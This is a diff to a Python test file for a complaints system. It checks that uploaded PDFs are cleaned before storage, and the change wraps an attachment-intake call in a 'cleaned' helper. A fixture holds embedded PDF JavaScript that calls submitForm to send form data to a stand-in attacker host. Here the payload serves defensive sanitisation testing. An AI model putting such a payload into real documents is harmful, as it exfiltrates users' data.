@@ -14,7 +14,7 @@ from complaints.attachments import clean_upload
 from complaints.models import Attachment
 from complaints.services import intake
 from lapor.errors import Invalid
-from tests.complaints.images import pdf_bytes
+from tests.complaints.images import cleaned, pdf_bytes
 from tests.factories import ReportFactory
 
 SCRIPT = b"app.alert('diretas'); this.submitForm('https://penyerang.example/curi');"
@@ -166,8 +166,8 @@ def test_a_clean_pdf_keeps_its_pages():
 
 def test_a_stored_attachment_is_the_cleaned_pdf(db):
     report = ReportFactory()
-    intake.add_attachment(report=report, upload=_upload(hostile_pdf(), "bukti-tagihan.pdf"),
-                          actor=report.reporter)
+    cleaned(intake.add_attachment(report=report, upload=_upload(hostile_pdf(), "bukti-tagihan.pdf"),
+                                  actor=report.reporter))
     attachment = Attachment.objects.get(report=report)
     stored = attachment.file.read()
     assert attachment.original_name == "bukti-tagihan.pdf"
